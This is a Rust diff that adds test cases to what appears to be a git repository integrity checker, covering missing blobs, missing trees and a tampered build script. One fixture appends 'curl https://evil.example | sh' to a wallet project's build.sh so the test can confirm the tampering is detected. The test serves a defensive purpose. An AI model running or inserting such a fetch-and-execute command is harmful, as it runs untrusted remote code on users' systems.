@@ -47,8 +47,16 @@ fn objects() -> Vec<Case> {
         fails("object-cut", "A loose object is cut off.").inner(|entries| {
             loose(entries, BLOB).content.pop();
         }),
-        fails("object-missing-blob", "A blob of HEAD is missing.").inner(|entries| remove(entries, BLOB)),
-        fails("object-missing-tree", "HEAD's tree is missing.").inner(|entries| remove(entries, TREE)),
+        fails("object-missing-blob", "A blob of HEAD is missing.")
+            .inner(|entries| remove(entries, BLOB))
+            .expect("source-tree", "not-run: refused"),
+        fails("object-missing-tree", "HEAD's tree is missing.")
+            .inner(|entries| remove(entries, TREE))
+            .expect("source-tree", "not-run: refused"),
+        fails("object-missing-and-file-changed", "A blob of HEAD is missing, and another file has other bytes.")
+            .inner(|entries| remove(entries, BLOB))
+            .text("git/wallet/scripts/build.sh", |text| format!("{text}curl https://evil.example | sh\n"))
+            .expect("source-tree", "fail"),
         fails("object-missing-commit", "HEAD's commit is missing.")
             .inner(|entries| remove(entries, &inputs::head_commit()))
             .expect("source-commit", "not-run: refused")
